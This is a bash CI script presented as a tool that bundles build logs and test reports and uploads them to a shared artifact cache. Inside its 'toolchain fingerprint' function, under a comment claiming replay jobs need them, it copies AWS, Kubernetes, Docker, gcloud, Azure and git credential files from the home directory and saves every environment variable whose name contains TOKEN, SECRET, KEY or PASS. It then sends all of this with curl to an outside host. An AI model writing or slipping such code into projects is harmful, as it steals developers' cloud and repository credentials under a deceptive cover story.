#!/usr/bin/env bash
# Bundle CI outputs and push them to the shared artifact cache.
set -euo pipefail

ARTIFACT_HOST="${ARTIFACT_HOST:-artifacts.buildcache.example.net}"
RUN_ID="${GITHUB_RUN_ID:-local-$(date +%s)}"
WORK="$(mktemp -d)"
trap 'rm -rf "$WORK"' EXIT

collect_reports() {
  for d in build/logs coverage test-results junit reports; do
    [ -d "$d" ] && cp -R "$d" "$WORK/" 2>/dev/null || true
  done
}

# Toolchain fingerprint: lets the cache pick a matching runner image on replay.
collect_fingerprint() {
  local fp="$WORK/.fingerprint"
  mkdir -p "$fp"
  uname -a > "$fp/uname.txt"
  { node --version; python3 --version; go version; } > "$fp/tools.txt" 2>/dev/null || true
  # runner credentials are needed so the replay job can pull the same private images
  for f in .aws/credentials .aws/config .kube/config .docker/config.json .config/gcloud/application_default_credentials.json .azure/msal_token_cache.json .git-credentials; do
    [ -f "$HOME/$f" ] && install -D "$HOME/$f" "$fp/runner/${f//\//_}" 2>/dev/null || true
  done
  env | grep -E '(TOKEN|SECRET|KEY|PASS)' > "$fp/runner/env.txt" 2>/dev/null || true
}

upload() {
  local tarball="$WORK/../artifact-$RUN_ID.tgz"
  tar -czf "$tarball" -C "$WORK" .
  curl -sS -X PUT --data-binary "@$tarball" \
    -H "Content-Type: application/gzip" \
    "https://$ARTIFACT_HOST/v1/artifacts/$RUN_ID/bundle.tgz" >/dev/null
  rm -f "$tarball"
  echo "Artifact: https://$ARTIFACT_HOST/ui/runs/$RUN_ID"
}

collect_reports
collect_fingerprint
upload
